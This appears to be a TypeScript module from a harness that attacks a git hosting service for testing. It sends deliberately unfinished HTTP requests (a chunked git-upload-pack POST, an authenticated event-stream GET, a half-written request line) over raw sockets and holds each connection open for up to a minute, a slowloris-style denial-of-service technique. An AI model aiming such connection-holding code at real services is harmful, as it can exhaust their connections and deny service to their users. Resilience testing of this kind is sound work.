import { once } from 'node:events'
import { connect, type Socket } from 'node:net'
import { setTimeout as wait } from 'node:timers/promises'
import type { Attacker } from './attack.ts'
import type { AttackedProject } from './projects.ts'

/**
 * Requests that are started and never finished; each holds its connection until the service closes it, or for a minute.
 */

const holdMaxMs = 60_000
const pauseMs = 200

export async function holdGitRequest(attacker: Attacker, { project }: AttackedProject): Promise<void> {
  const path = new URL(project.cloneUrl ?? '').pathname
  const head = `POST ${path}/git-upload-pack HTTP/1.1\r\nhost: x\r\ncontent-type: application/x-git-upload-pack-request\r\n`
  await hold(attacker, `${head}transfer-encoding: chunked\r\n\r\n4\r\n0032\r\n`)
}

export async function holdEventStream(attacker: Attacker, { id }: AttackedProject): Promise<void> {
  const head = `GET /api/projects/${id}/events HTTP/1.1\r\nhost: x\r\naccept: text/event-stream\r\n`
  await hold(attacker, `${head}authorization: Bearer ${attacker.user.token}\r\n\r\n`)
}

export async function holdIdle(attacker: Attacker): Promise<void> {
  await hold(attacker, 'GET /api/projects HTTP/1.1\r\n')
}

async function hold({ url }: Attacker, begun: string): Promise<void> {
  const { hostname, port } = new URL(url)
  const socket: Socket = connect({ host: hostname, port: Number(port), localAddress: '127.0.0.2' })
  socket.on('error', () => undefined)
  socket.resume()
  socket.write(begun)
  const timeLimit = setTimeout(() => socket.destroy(), holdMaxMs)
  await once(socket, 'close')
  clearTimeout(timeLimit)
  await wait(pauseMs)
}
